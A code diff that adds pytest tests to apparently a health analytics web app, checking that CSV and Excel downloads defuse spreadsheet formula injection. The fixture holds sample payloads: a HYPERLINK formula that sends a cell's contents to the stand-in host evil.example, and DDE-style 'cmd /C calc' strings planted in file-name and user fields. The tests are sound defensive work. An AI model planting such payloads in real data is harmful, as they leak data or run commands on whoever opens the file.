@@ -59,3 +59,54 @@ def test_public_downloads(client, url):
 def test_unknown_download(client):
     assert client.get("/download/nope.csv").status_code == 404
     assert client.get("/download/league.pdf?indicator=doac-share&level=icb").status_code == 404
+
+
+# --- formula (CSV) injection -----------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+
+
+@pytest.fixture(scope="module")
+def evil_site(demo, tmp_path_factory):
+    """A copy of the demo workspace with one more batch whose source and file names are formulas."""
+    import dataclasses
+    import shutil
+
+    from fastapi.testclient import TestClient
+
+    import workspace_builder
+    from uptake.analytics.store import AnalyticsStore
+    from web_support import make_app
+
+    root = tmp_path_factory.mktemp("evil") / "workspace"
+    shutil.copytree(demo.workspace.root, root)
+    workspace = dataclasses.replace(demo.workspace, root=root)
+    indicator, frame = next(iter(workspace_builder.observations(demo.built.organisations).items()))
+    AnalyticsStore(workspace.analytics_path).load_observations(
+        frame.head(5), indicator=indicator, source=EVIL, file_name="@SUM(1+1)*cmd|' /C calc'!A0.csv",
+        file_sha256="e" * 64, loaded_by="-2+3+cmd|' /C calc'!A0")
+    built = dataclasses.replace(demo.built, workspace=workspace)
+    with TestClient(make_app(dataclasses.replace(demo, built=built))) as client:
+        yield client
+
+
+def test_a_formula_in_a_batch_is_neutralised_in_the_csv(evil_site):
+    rows = _csv(evil_site.get("/download/batches.csv"))
+    evil = [r for r in rows if EVIL in r["source"]]
+    assert len(evil) == 1, rows
+    assert evil[0]["source"] == "'" + EVIL
+    assert evil[0]["file_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0.csv"
+    assert evil[0]["loaded_by"] == "'-2+3+cmd|' /C calc'!A0"
+    assert all(not (r[k] or "x")[0] in "=+-@\t\r" for r in rows for k in r)  # no cell starts like a formula
+
+
+def test_a_formula_in_a_batch_is_text_in_the_excel_download(evil_site):
+    book = load_workbook(io.BytesIO(evil_site.get("/download/batches.xlsx").content))
+    sheet = book["batches"]
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("source")] for row in sheet.iter_rows(min_row=2)]
+    evil = [c for c in cells if EVIL in str(c.value)]
+    assert len(evil) == 1
+    assert evil[0].data_type == "s" and evil[0].value == "'" + EVIL  # a string, not a formula
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert all(isinstance(row[header.index("batch_id")].value, int) for row in sheet.iter_rows(min_row=2))
